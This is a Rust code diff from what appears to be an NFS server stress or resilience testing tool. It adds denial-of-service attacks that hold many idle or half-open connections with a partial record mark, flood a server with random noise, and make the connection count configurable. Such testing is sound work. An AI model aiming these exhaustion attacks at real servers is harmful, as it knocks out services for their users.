@@ -19,6 +19,7 @@ use super::kind::Attack;
 use crate::baseline::load::{self, Amount, Load};
 use crate::baseline::workload::Workload;
 use crate::calls::{ask, connect, mode, mount, nfs_call};
+use crate::servers::Place;
 
 /// An attack on one server.
 #[derive(Clone, Debug)]
@@ -31,6 +32,24 @@ pub struct Job {
     pub mount: SocketAddr,
     /// Path of the export, as MOUNT takes it.
     pub export: String,
+    /// The address of this machine that it comes from.
+    pub from: Ipv4Addr,
+    /// How many silent or half-open connections there may be.
+    pub connections: usize,
+}
+
+impl Job {
+    /// An attack on the server at `place`.
+    pub fn on(place: &Place, attack: Attack, from: Ipv4Addr, connections: usize) -> Self {
+        Self {
+            attack,
+            nfs: place.nfs,
+            mount: place.mount,
+            export: place.export.clone(),
+            from,
+            connections,
+        }
+    }
 }
 
 /// Connections of the attacks that trickle.
@@ -41,8 +60,8 @@ const SENT_AT_ONCE: usize = 1400;
 const TAKEN_AT_ONCE: usize = 800;
 /// Between two steps of what is done slowly.
 const PAUSE: Duration = Duration::from_millis(10);
-/// Connections that say nothing: more than the descriptors of most servers.
-const SILENT: usize = 10_000;
+/// Connections of noise.
+const NOISES: usize = 8;
 /// Bursts at a time, and calls of each.
 const BURSTS: (usize, usize) = (40, 1024);
 /// Connections of a stream, and calls in flight on each.
@@ -67,7 +86,10 @@ pub fn run(job: &Job) -> Result<()> {
     let target = Arc::new(Target::of(job, Arc::clone(&moved))?);
     let (threads, step): (usize, fn(&Target) -> Result<()>) = match job.attack {
         Attack::WriteHeads | Attack::WriteHeadsOfAStranger => (TRICKLES, write_slowly),
-        Attack::IdleConnections | Attack::IdleConnectionsOfAStranger => (1, say_nothing),
+        Attack::IdleConnections | Attack::IdleConnectionsOfAStranger | Attack::HalfOpen => {
+            (1, say_little)
+        }
+        Attack::Noise => (NOISES, send_noise),
         Attack::SlowReaders => (TRICKLES, read_slowly),
         Attack::Bursts => (BURSTS.0, burst),
         Attack::Names => (GREEDY_LOADS.0, make_names),
@@ -100,7 +122,6 @@ pub fn run(job: &Job) -> Result<()> {
 /// What the threads of an attack share.
 struct Target {
     job: Job,
-    from: Ipv4Addr,
     root: Option<FileHandle>,
     file: Option<FileHandle>,
     moved: Arc<AtomicU64>,
@@ -110,7 +131,6 @@ impl Target {
     fn of(job: &Job, moved: Arc<AtomicU64>) -> Result<Self> {
         let mut target = Self {
             job: job.clone(),
-            from: job.attack.from(),
             root: None,
             file: None,
             moved,
@@ -119,7 +139,7 @@ impl Target {
             job.attack,
             Attack::SlowReaders | Attack::Bursts | Attack::ReadStream | Attack::WriteStream
         ) {
-            let root = mount(Some(target.from), job.mount, &job.export)?;
+            let root = mount(Some(job.from), job.mount, &job.export)?;
             target.file = Some(make_file(&mut target.connect()?, root)?);
             target.root = Some(root);
         }
@@ -127,7 +147,7 @@ impl Target {
     }
 
     fn connect(&self) -> Result<TcpStream> {
-        connect(Some(self.from), self.job.nfs)
+        connect(Some(self.job.from), self.job.nfs)
     }
 
     fn file(&self) -> Result<FileHandle> {
@@ -149,7 +169,7 @@ impl Target {
             amount: Amount::For(Duration::from_secs(1)),
             handles: None,
             cpu: None,
-            from: Some(self.from),
+            from: Some(self.job.from),
         })?;
         self.count(usize::try_from(sample.calls)?);
         Ok(())
@@ -218,8 +238,12 @@ fn write_slowly(target: &Target) -> Result<()> {
     Ok(())
 }
 
-/// Connections that say nothing; those that the server ends are made anew.
-fn say_nothing(target: &Target) -> Result<()> {
+/// Connections that say nothing, or half a mark; those that the server ends are made anew.
+fn say_little(target: &Target) -> Result<()> {
+    let said: &[u8] = match target.job.attack {
+        Attack::HalfOpen => &[0x80, 0],
+        _ => &[],
+    };
     let mut held: Vec<TcpStream> = Vec::new();
     loop {
         held.retain(|stream| {
@@ -227,14 +251,29 @@ fn say_nothing(target: &Target) -> Result<()> {
             // Only what would have to be waited for is open still.
             matches!((&*stream).read(&mut byte), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
         });
-        for _ in 0..SILENT.saturating_sub(held.len()).min(500) {
-            let Ok(stream) = target.connect() else { break };
+        for _ in 0..target.job.connections.saturating_sub(held.len()).min(500) {
+            let Ok(mut stream) = target.connect() else {
+                break;
+            };
             stream.set_nonblocking(true)?;
-            held.push(stream);
+            if stream.write_all(said).is_ok() {
+                held.push(stream);
+            }
         }
         target.moved.store(held.len() as u64, Ordering::Relaxed);
         // SLEEP: the attack's own pace.
         thread::sleep(BETWEEN_TRIES);
+    }
+}
+
+/// One connection that sends what is no call until the server has had enough.
+fn send_noise(target: &Target) -> Result<()> {
+    let mut noise = vec![0; 64 << 10];
+    let mut stream = target.connect()?;
+    loop {
+        fastrand::fill(&mut noise);
+        stream.write_all(&noise)?;
+        target.count(noise.len());
     }
 }
 
